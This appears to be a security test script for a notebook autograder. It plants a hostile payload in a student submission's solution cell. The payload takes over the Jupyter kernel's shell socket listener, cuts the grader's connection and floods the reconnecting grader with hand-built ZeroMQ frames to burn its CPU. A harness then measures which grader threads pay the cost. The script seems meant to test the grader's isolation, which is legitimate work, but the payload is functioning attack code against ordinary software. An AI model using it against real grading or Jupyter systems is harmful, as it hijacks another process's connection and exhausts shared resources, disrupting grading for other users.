"""a01b: a01 made cheap for the kernel. In a01 the kernel's own ZeroMQ I/O thread paid about as much as the grader's
(it shares the connection it writes on). Here the kernel keeps a duplicate of its shell socket's listening descriptor,
unbinds the shell socket (ZeroMQ stops serving that listener; the sealed runtime folder keeps the socket file) and
ends its connection to the grader: the grader's shell socket reconnects, to the kernel's own listener, which the
cell now accepts itself. It answers ZMTP 3.0's greeting and READY (NULL mechanism, as a ROUTER) and writes CHUNK
empty frames flagged MORE, then shuts the connection down; the grader reconnects 100 ms later and it goes again.
Nothing of the kernel's ZeroMQ is involved. The shell channel never answers this cell (it times out and the kernel is
restarted: the hostile submission's own loss). Same measurement as a01."""
import os, sys, threading, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common21 import *  # noqa
from common21 import _descends, GRADER, ROOT  # noqa

A = "ps1_memory"
CHUNK = int(os.environ.get("CHUNK", "8000000"))
DUR = float(os.environ.get("DUR", "100"))

PAYLOAD = f"""
def __own_listener(chunk={CHUNK}, dur={DUR}):
    import os, socket, select, time, struct
    from ipykernel.kernelapp import IPKernelApp
    app = IPKernelApp.instance()
    path = "%s-%s" % (app.ip, app.shell_port)
    listener, conns = None, []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if not os.readlink("/proc/self/fd/%d" % fd).startswith("socket:"):
                continue
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        if s.family == socket.AF_UNIX and s.getsockname() == path:
            try:
                s.getpeername(); conns.append(s)
            except OSError:
                listener = s
                continue
        else:
            s.close()
    app.shell_socket.unbind("ipc://" + path)
    time.sleep(0.3)
    for c in conns:
        try:
            c.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        c.close()
    greeting = b"\\xff" + b"\\x00" * 8 + b"\\x7f" + b"\\x03\\x00" + b"NULL".ljust(20, b"\\x00") + b"\\x00" + b"\\x00" * 31
    prop = b"\\x0bSocket-Type" + struct.pack(">I", 6) + b"ROUTER"
    ready = b"\\x05READY" + prop
    ready = b"\\x04" + bytes([len(ready)]) + ready
    wire = b"\\x01\\x00" * chunk
    listener.setblocking(True)
    listener.settimeout(2)
    t0, cycles = time.time(), 0
    while time.time() - t0 < dur:
        try:
            c, _ = listener.accept()
        except OSError:
            continue
        try:
            c.settimeout(5)
            c.sendall(greeting + ready)
            got = b""
            while len(got) < 64:
                more = c.recv(4096)
                if not more:
                    break
                got += more
            c.sendall(wire)
            cycles += 1
            c.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        finally:
            c.close()
    return cycles, cycles * chunk
__r = __own_listener()
print("cycles, unfinished parts written:", __r)
"""


def hostile():
    def mutate(nb):
        for c in nb.cells:
            if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                c.source += "\n" + PAYLOAD
                break
    return notebook(mutate=mutate, assignment=A)


class Threads(threading.Thread):
    """CPU seconds per thread of the grading command's processes (which thread of the grader pays)."""

    def __init__(self):
        super().__init__(daemon=True)
        self.stop, self.seen = False, {}

    def run(self):
        while not self.stop:
            top = GRADER.get("pid")
            for p in os.listdir("/proc"):
                if not p.isdigit() or top is None or not _descends(int(p), top):
                    continue
                try:
                    uid = next(int(l.split()[1]) for l in open(f"/proc/{p}/status") if l.startswith("Uid:"))
                    cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")[:60]
                    for t in os.listdir(f"/proc/{p}/task"):
                        st = open(f"/proc/{p}/task/{t}/stat").read().rsplit(")", 1)[1].split()
                        comm = open(f"/proc/{p}/task/{t}/comm").read().strip()
                        ticks = int(st[11]) + int(st[12])
                        key = (p, t)
                        old = self.seen.get(key, (0,))[0]
                        self.seen[key] = (max(old, ticks), "grader" if uid == 0 else "sandbox", comm, cmd.replace(ROOT, "<clone>"))
                except (OSError, StopIteration):
                    continue
            time.sleep(0.5)

    def show(self):
        tck = os.sysconf("SC_CLK_TCK")
        for (p, t), (ticks, side, comm, cmd) in sorted(self.seen.items(), key=lambda kv: -kv[1][0])[:10]:
            print(f"   {side:7s} {ticks / tck:7.1f} CPU-s  thread {comm!r:16s} of {cmd}")


def main():
    import threading as _t  # noqa
    th = Threads()
    th.start()
    r = r18_runner(os.environ.get("PREFIX", "/tmp/attack21-a01b-"), A)
    h = honest(A)
    if os.environ.get("BASE"):
        r.run("base", {"aa_honest": h, "zz_honest": h}, 1)
    original_cleanup = r.cleanup

    def show_then_cleanup(dest):
        nbp = os.path.join(dest, "autograded", "mallory", A, f"{A}.ipynb")
        if os.path.exists(nbp):
            import json as _json
            for c in _json.load(open(nbp))["cells"]:
                for o in c.get("outputs", []):
                    if "unfinished parts" in str(o.get("text", "")):
                        print("mallory's cell printed:", str(o.get("text"))[:300])
        rp = os.path.join(dest, "grading_report.json")
        if os.path.exists(rp):
            print(open(rp).read()[:3000])
        original_cleanup(dest)

    r.cleanup = show_then_cleanup
    r.run("unfinished", {"mallory": hostile(), "zz_honest": h}, 1)
    th.stop = True
    print("busiest threads of the grading command (max over the run):")
    th.show()


if __name__ == "__main__":
    main()
